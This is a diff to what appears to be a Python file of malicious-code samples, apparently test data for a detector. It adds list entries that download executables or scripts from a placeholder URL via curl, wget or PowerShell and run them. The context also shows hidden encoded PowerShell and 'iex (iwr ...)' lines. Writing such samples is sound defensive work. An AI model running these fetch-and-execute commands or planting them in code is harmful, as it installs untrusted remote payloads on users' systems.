@@ -39,6 +39,11 @@ STARTED_FROM_A_FIXED_ADDRESS = [
     ),
     f"import ctypes\nopen('x.dll', 'wb').write(requests.get('{URL}.dll').content)\nctypes.CDLL('./x.dll')",
 ]
+STARTED_FROM_A_FIXED_ADDRESS += [
+    f"subprocess.call('curl {URL}.exe -o prog.exe', shell=True)\nos.system('prog.exe')",
+    f"os.system('powershell -c Invoke-WebRequest -Uri {URL}.exe -OutFile prog.exe')\nos.system('start prog.exe')",
+    f"os.system('wget {URL}.sh -O /tmp/prog.sh')\nsubprocess.run(['sh', '/tmp/prog.sh'])",
+]
 HIDDEN_POWERSHELL = [
     "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "')",
     "os.system('powershell.exe -nop -w hidden -c \"iex (iwr https://example.invalid/a)\"')",
